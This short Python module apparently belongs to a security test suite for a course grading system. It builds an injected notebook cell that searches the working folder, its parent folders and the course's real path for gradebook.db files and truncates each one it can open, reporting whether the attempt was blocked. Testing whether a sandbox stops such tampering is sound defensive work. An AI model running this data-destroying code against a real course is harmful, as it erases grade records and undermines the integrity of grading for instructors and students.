"""Walks up from the working folder (and tries the course's real path) and truncates every gradebook.db it can open."""
from attacks.course import with_first_cell

ENDS = "completed"


def build(release, ctx):
    return with_first_cell(release, f'''
import pathlib
here = pathlib.Path.cwd()
targets = [pathlib.Path({str(ctx.root)!r}) / "grading" / "gradebook.db"]
targets += [p / "grading" / "gradebook.db" for p in (here, *here.parents)]
for t in targets:
    try:
        open(t, "w").close()
        print("truncated", t)
    except OSError as e:
        print("blocked", type(e).__name__)
''')
